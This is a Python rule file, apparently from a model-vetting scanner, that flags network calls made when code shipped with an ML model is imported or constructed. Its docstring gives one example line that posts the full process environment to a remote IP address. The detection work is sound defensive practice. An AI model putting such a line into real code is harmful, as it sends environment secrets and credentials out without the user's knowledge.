"""Python code that comes with the model uses the network as soon as it is imported or constructed.

What it finds:
    Sockets, HTTP, FTP and mail clients that are used at module level, in class bodies, in functions that those
    call, or in constructors.

Why it matters:
    Loading a model should not tell anybody that it was loaded, send anything away, or fetch more code.

Example:
    ``requests.post('http://198.51.100.1/', json=dict(os.environ))`` at the top of ``modeling_x.py``.

Remedy:
    Do not load the model with its code; find out what is sent or fetched, and from where.

What it cannot see:
    What modules from elsewhere, or other files of the repository, do when this file calls them; names that only
    come about while the code runs.

References:
    https://docs.python.org/3/reference/import.html ; CWE-201, CWE-494.
"""

from __future__ import annotations

from collections.abc import Iterator

from openvet.checks._check import Context
from openvet.checks.python._uses import found
from openvet.core.finding import Finding
from openvet.core.rule import Confidence, Rule, Severity

RULE = Rule(
    id="python/network-at-load",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    since="0.1.0",
    cwe=(201, 494),
    needs=("python", "notebook", "python-bytecode"),
)

_GRADES = {"import": (Severity.HIGH, Confidence.MEDIUM), "construction": (Severity.MEDIUM, Confidence.MEDIUM)}


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each such call."""
    yield from found(
        ctx, "network", "uses the network", "Find out what is sent or fetched before you run this code.", _GRADES
    )
